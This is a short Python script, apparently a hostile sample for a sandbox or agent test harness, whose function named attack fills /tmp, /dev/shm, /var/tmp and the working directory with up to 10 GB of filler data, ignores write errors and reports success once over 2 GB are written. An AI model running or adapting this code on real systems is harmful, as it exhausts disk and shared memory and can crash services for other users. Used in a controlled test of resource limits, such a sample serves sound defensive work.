"""Writes a file of 10 GB wherever it may, and then many small ones."""
import os

from agent import serve


def attack():
    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        for number in range(20):
            try:
                with open(f"{folder}/filler-{os.getpid()}-{number}", "wb") as file:
                    while written < 10 << 30:
                        written += file.write(b"x" * (1 << 24))
            except OSError:
                pass
    return written > 2 << 30


serve(attack)
